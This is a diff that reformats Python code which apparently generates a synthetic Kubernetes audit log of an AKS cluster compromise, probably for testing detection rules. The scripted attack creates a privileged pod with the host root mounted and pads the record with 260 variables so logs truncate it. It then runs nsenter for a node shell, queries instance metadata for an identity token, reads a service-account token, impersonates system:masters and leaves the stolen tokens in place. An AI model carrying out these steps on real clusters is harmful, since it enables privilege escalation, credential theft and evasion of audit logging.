@@ -26,9 +26,7 @@ KUBECTL = "kubectl/v1.32.9 (linux/amd64) kubernetes/3c1e0f5"
 SCRIPT = "python-requests/2.32.5"
 ROLE, BINDING, POD = "aks-node-metrics", "aks-node-metrics", "node-metrics-collector"
 NODE = people.NODES[0]
-CHAFF = tuple(
-    {"name": f"COLLECTOR_SCRAPE_{n:03d}", "value": f"node-exporter.{n:03d}/metrics"} for n in range(260)
-)
+CHAFF = tuple({"name": f"COLLECTOR_SCRAPE_{n:03d}", "value": f"node-exporter.{n:03d}/metrics"} for n in range(260))
 PROBED = (
     ("list", Target("namespaces")),
     ("list", Target("nodes")),
@@ -208,9 +206,7 @@ class Attack:
         remarks = {"pod-security.kubernetes.io/enforce-policy": "privileged:latest"}
         answer = objects.stored(pod, log.new_version(), at, "kubectl-create")
         target = Target("pods", "kube-system", POD)
-        made = log.request(
-            at, admin, "create", target, query=query, code=201, body=pod, answer=answer, remarks=remarks
-        )
+        made = log.request(at, admin, "create", target, query=query, code=201, body=pod, answer=answer, remarks=remarks)
         what = (
             "The same pod is created in kube-system: the node's root mounted, hostPID, privileged. 260 idle "
             "variables push the record over 16 KiB: it arrives cut, behind the volumes and "
@@ -224,26 +220,20 @@ class Attack:
             log.request(at + pause, people.node(NODE), "create", Target("events", "kube-system"), code=201)
 
         at = clock(8, 59, 20)
-        shell = self._exec(
-            at, admin, POD, "collector", command="nsenter -t 1 -m -u -i -n -p -- bash", lasts_s=214.0
-        )
+        shell = self._exec(at, admin, POD, "collector", command="nsenter -t 1 -m -u -i -n -p -- bash", lasts_s=214.0)
         what = "A shell on the node: exec into the pod (WebSocket, verb get) runs nsenter"
         self._tell(at, admin, what, [shell], "B01 B03 B04 B11 B14")
         at = clock(9, 2, 58)
         asked = "api-version=2018-02-01&resource=https://vault.azure.net"
         url = f"http://169.254.169.254/metadata/identity/oauth2/token?{asked}"
-        metadata = self._exec(
-            at, admin, POD, "collector", command=f"curl -s -H Metadata:true {url}", lasts_s=0.9
-        )
+        metadata = self._exec(at, admin, POD, "collector", command=f"curl -s -H Metadata:true {url}", lasts_s=0.9)
         what = "From there the node's managed identity is asked of the instance metadata service"
         self._tell(at, admin, what, [metadata], "B01 B03 B06 B07 B14")
 
     def _go_further(self, admin: Actor) -> None:
         log, at = self.log, clock(9, 4, 33)
         path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
-        taken = self._exec(
-            at, admin, "csi-azuredisk-node-4tq9r", "azuredisk", command=f"cat {path}", lasts_s=0.4
-        )
+        taken = self._exec(at, admin, "csi-azuredisk-node-4tq9r", "azuredisk", command=f"cat {path}", lasts_s=0.4)
         what = "Exec into a pod of kube-system reads the token of the disk driver"
         self._tell(at, admin, what, [taken], "B01 B03 B08 B09 B14")
 
@@ -253,12 +243,8 @@ class Attack:
         }
         at = clock(9, 6, 12)
         acted = [
-            log.request(
-                at, admin, "list", Target("secrets", "kube-system"), acting_as=masters, allowed_by=""
-            ),
-            log.request(
-                at + 21, admin, "list", Target("nodes"), query="limit=500", acting_as=masters, allowed_by=""
-            ),
+            log.request(at, admin, "list", Target("secrets", "kube-system"), acting_as=masters, allowed_by=""),
+            log.request(at + 21, admin, "list", Target("nodes"), query="limit=500", acting_as=masters, allowed_by=""),
         ]
         self._tell(at, admin, "Two requests impersonate the group system:masters", acted, "D20 D21 E01 E03")
 
@@ -301,9 +287,7 @@ class Attack:
         what = f"ClusterRoleBinding {BINDING} is deleted; ClusterRole {ROLE} and the stolen tokens remain"
         self._tell(at, admin, what, [removed], "C03 C16 J03")
 
-    def _exec(
-        self, at: float, actor: Actor, pod: str, container: str, *, command: str, lasts_s: float
-    ) -> str:
+    def _exec(self, at: float, actor: Actor, pod: str, container: str, *, command: str, lasts_s: float) -> str:
         words = "&".join(f"command={quote_plus(word)}" for word in command.split())
         query = f"{words}&container={container}&stdin=true&stdout=true&tty=true"
         target = Target("pods", "kube-system", pod, "exec")
